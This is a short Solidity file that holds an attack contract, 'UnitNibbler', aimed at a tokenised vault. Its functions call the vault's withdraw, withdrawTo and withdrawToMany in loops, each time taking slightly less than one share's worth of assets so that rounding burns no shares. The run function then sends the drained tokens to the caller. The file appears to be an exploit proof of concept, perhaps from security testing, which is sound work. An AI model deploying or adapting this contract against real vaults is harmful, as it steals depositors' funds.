// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IVault {
    function withdraw(uint256 assets) external returns (uint256);

    function withdrawTo(uint256 assets, address to) external returns (uint256);

    function withdrawToMany(uint256[] calldata assets, address[] calldata to) external;

    function assetsOf(uint256 units) external view returns (uint256);
}

interface IToken {
    function transfer(address to, uint256 value) external returns (bool);

    function balanceOf(address account) external view returns (uint256);
}

/// Withdraws a little less than a unit's worth, for nothing, over and over.
contract UnitNibbler {
    function run(IVault vault, IToken asset, uint256 bites) external {
        for (uint256 i = 0; i < bites; i++) vault.withdraw(vault.assetsOf(1) - 1);
        asset.transfer(msg.sender, asset.balanceOf(address(this)));
    }

    function runTo(IVault vault, address to, uint256 bites, uint256 assets) external {
        for (uint256 i = 0; i < bites; i++) vault.withdrawTo(assets, to);
    }

    function runMany(IVault vault, address to, uint256 bites, uint256 assets) external {
        uint256[] memory amounts = new uint256[](bites);
        address[] memory receivers = new address[](bites);
        for (uint256 i = 0; i < bites; i++) (amounts[i], receivers[i]) = (assets, to);
        vault.withdrawToMany(amounts, receivers);
    }
}
